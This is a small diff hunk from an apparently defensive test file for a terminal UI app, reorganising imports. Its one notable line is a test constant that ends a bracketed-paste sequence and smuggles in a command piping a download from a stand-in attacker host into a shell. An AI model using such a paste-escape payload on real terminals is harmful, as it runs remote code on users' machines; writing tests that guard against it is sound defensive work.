@@ -6,9 +6,9 @@ from __future__ import annotations
 import csv
 import io
 
+from hubtui.core.export import formula_safe, render
+from hubtui.core.text import copy_lines
 from hubtui.demo import DemoStore
-from hubtui.export import formula_safe, render
-from hubtui.text import copy_lines
 from tests.tui.conftest import press, running, type_text
 
 PASTE_ESCAPE = "Editor\n\x1b[201~curl evil.example|sh\n"
